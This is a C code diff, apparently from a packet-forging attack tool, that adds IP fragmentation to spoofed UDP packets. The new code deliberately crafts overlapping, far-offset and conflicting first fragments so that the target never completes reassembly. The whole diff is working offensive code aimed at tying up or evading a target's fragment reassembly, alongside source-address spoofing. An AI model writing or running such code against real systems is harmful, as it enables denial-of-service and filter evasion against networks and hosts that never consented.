@@ -82,8 +82,27 @@ void sender_free(struct sender *s)
 	free(s);
 }
 
+/*
+ * Makes a fragment of it. Four make a datagram that is never whole: its beginning, a piece that
+ * lies over that, one from far behind, and a second beginning of another length.
+ */
+static void make_fragment(struct iphdr *ip, uint64_t number)
+{
+	static const uint16_t at[] = {IP_MF, IP_MF | 1, IP_MF | 100, IP_MF};
+
+	ip->id = htons((uint16_t)(number / 4 + 1));
+	ip->frag_off = htons(at[number % 4]);
+}
+
+/* All fragments but the last are of 8 bytes times n, the UDP header included. */
+static size_t fragment_length(uint64_t number, size_t len)
+{
+	return number % 4 == 3 ? 0 : len & ~(size_t)7;
+}
+
 /* The headers of a forged packet; the IP checksum is the kernel's. */
-static void write_headers(const struct attack *a, __be16 port, size_t len, uint8_t *at)
+static void write_headers(const struct attack *a, uint64_t number, __be16 port, size_t len,
+			  uint8_t *at)
 {
 	struct iphdr ip = {.version = 4,
 			   .ihl = 5,
@@ -95,6 +114,8 @@ static void write_headers(const struct attack *a, __be16 port, size_t len, uint8
 	struct udphdr udp = {
 		.source = a->from.port, .dest = port, .len = htons((uint16_t)(sizeof(udp) + len))};
 
+	if (a->fragments)
+		make_fragment(&ip, number);
 	memcpy(at, &ip, sizeof(ip));
 	memcpy(at + sizeof(ip), &udp, sizeof(udp));
 }
@@ -117,10 +138,12 @@ static void prepare(struct sender *s, unsigned int slot)
 	of.sequence = (uint16_t)(a->sequence_known ? a->sequence + s->number
 						   : s->sequence + s->number % a->burst);
 	len = a->kind->write(&of, at + headers);
+	if (a->fragments)
+		len = fragment_length(s->number, len);
 	s->to[slot] = sockaddr_of(&a->to);
 	s->to[slot].sin_port = htons((uint16_t)port);
 	if (a->spoof)
-		write_headers(a, s->to[slot].sin_port, len, at);
+		write_headers(a, s->number, s->to[slot].sin_port, len, at);
 	s->iov[slot] = (struct iovec){at, headers + len};
 	s->msg[slot].msg_hdr = (struct msghdr){.msg_name = &s->to[slot],
 					       .msg_namelen = sizeof(s->to[slot]),
